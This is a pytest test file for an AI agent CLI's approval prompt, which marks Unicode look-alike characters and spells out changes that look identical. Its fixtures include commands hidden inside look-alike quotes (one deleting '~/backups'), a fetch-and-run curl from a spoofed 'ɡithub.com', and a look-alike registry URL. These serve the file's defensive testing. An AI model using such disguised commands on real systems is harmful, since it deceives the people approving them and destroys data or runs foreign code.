"""Approvals as the REPL prints them: look-alikes marked, same-looking changes written out.

The interactive asker prints each view on a colour console, as it does at the prompt;
what is drawn in reverse video is what the user sees marked. The cases are the
twenty-first outside tester's (see test_repl_approval_lookalikes for the rule itself).
"""

from __future__ import annotations

import io

import pytest
from e2e_support import SGR, reversed_on_screen
from rich.console import Console

from agent_cli.events import ToolStarted
from agent_cli.repl.approval_view import MAX_HEADER_ROWS, RESERVED_ROWS, build_approval_view
from agent_cli.repl.tool_lines import build_tool_started_line
from agent_cli.repl.wiring import build_interactive_asker
from agent_cli.tools.approval import (
    build_command_approval,
    build_content_approval,
    build_diff_approval,
)
from agent_cli.tools.permissions import PermissionDecision, PermissionRequest

LOOKALIKE_WORDS = "look-alikes of ASCII letters or signs, shown marked"
SAME_LOOKING_WORDS = "a change draws like what it replaces, the characters that differ written out"


def shown_by_asker(request: PermissionRequest, width: int = 120) -> tuple[str, str]:
    """(the plain text, the characters drawn in reverse video) the asker prints before
    its question, answered `n`."""
    console = Console(
        file=io.StringIO(), width=width, height=40, record=True, color_system="standard"
    )
    decision = build_interactive_asker(lambda question: "n", console)(request)
    assert decision is PermissionDecision.DENY
    coloured = console.export_text(styles=True)
    return SGR.sub("", coloured), reversed_on_screen(coloured)


def bash(command: str) -> PermissionRequest:
    return PermissionRequest("bash", command, build_command_approval(command))


def edit(old: str, new: str) -> PermissionRequest:
    approval = build_diff_approval(old, new, "deploy.sh")
    return PermissionRequest("edit_file", "edit deploy.sh", approval)


@pytest.mark.parametrize(
    ("command", "quotes"),
    [
        ("echo \u02baremoving nothing; touch RAN_1; echo done\u02ba", "\u02ba\u02ba"),
        ("echo \u2033safe text; touch RAN_2; echo ok\u2033", "\u2033\u2033"),
        ("echo \u201csafe; touch RAN_3; echo x\u201d", "\u201c\u201d"),
        ("echo \u02b9safe; touch RAN_4; echo x\u02b9", "\u02b9\u02b9"),
    ],
)
def test_a_bash_approval_marks_quote_lookalikes_and_says_so(command, quotes):
    plain, marked = shown_by_asker(bash(command))
    assert f"1 │ {command}" in plain
    assert marked == quotes
    assert LOOKALIKE_WORDS in " ".join(plain.split("\n  ↳ "))


def test_an_edit_diff_writes_out_a_quote_lookalike_that_replaces_a_quote():
    """Marked when it stood alone; written out (fix22d) now that the line it replaces has
    `"` where it has `ʺ`: a change into a character drawn alike."""
    old = '#!/bin/sh\necho "deploying to staging"\n'
    new = "#!/bin/sh\necho \u02badeploying to staging; rm -rf ~/backups; echo done\u02ba\n"
    plain, marked = shown_by_asker(edit(old, new))
    assert "+echo <U+02BA>deploying to staging; rm -rf ~/backups; echo done<U+02BA>" in plain
    assert marked == "<U+02BA><U+02BA>"
    assert SAME_LOOKING_WORDS in " ".join(plain.split("\n  ↳ "))


def test_an_edit_to_a_latin_lookalike_letter_is_written_out():
    old = "REGISTRY=https://registry.npmjs.org\n"
    plain, marked = shown_by_asker(edit(old, old.replace("registry.npm", "re\u0261istry.npm")))
    assert marked == "<U+0261>" and "+REGISTRY=https://re<U+0261>istry.npmjs.org" in plain


def test_a_new_file_marks_its_lookalikes_too():
    content = "curl -fsSL https://\u0261ithub.com/x.sh | sh\n"
    request = PermissionRequest("write_file", "create x.sh", build_content_approval(content))
    plain, marked = shown_by_asker(request)
    assert marked == "\u0261" and LOOKALIKE_WORDS in " ".join(plain.split("\n  ↳ "))


def test_an_edit_that_only_decomposes_a_letter_writes_both_forms_out_and_says_so():
    """`café` (U+00E9) into `cafe` + U+0301 showed `-name = café` and `+name = café`."""
    plain, _ = shown_by_asker(edit("name = caf\u00e9\n", "name = cafe\u0301\n"))
    assert "4 │ -name = caf<U+00E9>" in plain and "5 │ +name = cafe<U+0301>" in plain
    assert SAME_LOOKING_WORDS in " ".join(plain.split("\n  ↳ "))


def test_an_edit_between_two_compositions_of_several_letters_writes_out_only_them():
    plain, _ = shown_by_asker(edit("r\u00e9sum\u00e9 ok\n", "re\u0301sume\u0301 ok\n"))
    assert "-r<U+00E9>sum<U+00E9> ok" in plain and "+re<U+0301>sume<U+0301> ok" in plain


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("name = café\n", "name = cafe\n"),  # a change the eye sees
        ("title = naïve café\n", "title = naïve café au lait\n"),
        ("說明：請運行程式（第二版）\n", "說明：請運行程式（第三版），然後重新啟動！\n"),
        ("привет мир\n", "привет, мир\n"),
    ],
)
def test_ordinary_edits_of_accented_or_cjk_text_show_no_note_and_no_mark(old, new):
    plain, marked = shown_by_asker(edit(old, new))
    assert marked == "" and "<U+" not in plain
    assert LOOKALIKE_WORDS not in plain and "draws like" not in plain
    assert f"+{new.rstrip()}" in plain


def test_a_stray_combining_mark_is_written_out_in_the_approval_and_the_tool_heading():
    command = "echo hi; r\u0336m -rf x\u0338y"
    plain, _ = shown_by_asker(bash(command))
    assert "1 │ echo hi; r<U+0336>m -rf x<U+0338>y" in plain
    heading = build_tool_started_line(ToolStarted("t1", "bash", {"command": command}), 120)
    assert "echo hi; r<U+0336>m -rf x<U+0338>y" in heading.plain


def test_a_file_name_with_a_stray_mark_is_written_out_in_the_header():
    request = PermissionRequest(
        "write_file", "create x\u0338y.md with 1 line", build_content_approval("x\n")
    )
    plain, _ = shown_by_asker(request)
    assert "create x<U+0338>y.md with 1 line" in plain


@pytest.mark.parametrize("width", [30, 40, 60, 80])
def test_both_notes_take_their_short_forms_on_a_narrow_screen_and_all_fits(width):
    old, new = "a = caf\u00e9\nb = x\n", "a = cafe\u0301\nb = \u0261x\n"
    view = build_approval_view(edit(old, new), width, 20)
    header = " ".join(view.header.plain.split("\n  ↳ "))
    long_form = LOOKALIKE_WORDS in header and SAME_LOOKING_WORDS in header
    short_form = "; look-alikes marked; same-looking change written out)" in header
    assert long_form or short_form, header
    rows = view.header.plain.split("\n")
    assert all(len(row) <= width for row in rows), rows
    assert long_form is (width >= 80) and (len(rows) <= MAX_HEADER_ROWS or not long_form)
    body_rows = sum(len(line.plain.split("\n")) for line in view.lines)
    assert len(rows) + body_rows + RESERVED_ROWS <= 20
